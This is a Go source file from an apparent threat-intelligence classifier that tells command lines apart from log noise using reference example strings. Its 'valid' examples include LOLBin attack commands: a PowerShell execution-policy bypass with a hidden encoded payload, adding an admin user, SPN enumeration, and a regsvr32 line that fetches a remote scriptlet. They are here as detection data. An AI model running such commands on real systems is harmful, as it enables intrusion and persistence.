// Copyright Mesh Intelligence Inc., 2026. All rights reserved.

// Package classify filters harvested candidates down to the command-like
// subset, by heuristic rules alone or by embedding similarity against two
// reference centroids with the heuristic gate always applied on top.
// Implements: prd002-classify (R1-R3); docs/ARCHITECTURE § Classification.
package classify

// validExamples are reference command lines averaged into the "valid"
// centroid. They span shells, native utilities, and LOLBin abuse so the
// centroid captures command shape rather than any one tool (R2.2).
var validExamples = []string{
	`powershell.exe -ExecutionPolicy Bypass -File payload.ps1`,
	`powershell.exe -nop -w hidden -enc SQBFAFgA`,
	`cmd.exe /c whoami /all`,
	`"C:\Program Files\App\app.exe" -install -silent`,
	`C:\Windows\System32\ipconfig.exe /all`,
	`net.exe user admin P@ssw0rd /add`,
	`rundll32.exe shell32.dll,Control_RunDLL`,
	`wmic.exe process call create "cmd.exe /c calc"`,
	`setspn.exe -Q */svc`,
	`regsvr32.exe /s /u /i:http://host/file.sct scrobj.dll`,
}

// invalidExamples are reference non-commands averaged into the "invalid"
// centroid: event-log noise, installer chatter, and plain prose (R2.2).
var invalidExamples = []string{
	`The Service Control Manager reported that a service entered the running state.`,
	`MsiInstaller raised event 11707 after the product installed successfully.`,
	`Windows EventLog service started at boot.`,
	`The threat actor gained initial access through a phishing email.`,
	`Researchers observed the campaign targeting financial institutions.`,
	`Event 7036 was recorded in the system log during the intrusion window.`,
	`The update was applied by the administrator over the weekend.`,
	`Analysis of the sample revealed obfuscated configuration data.`,
}
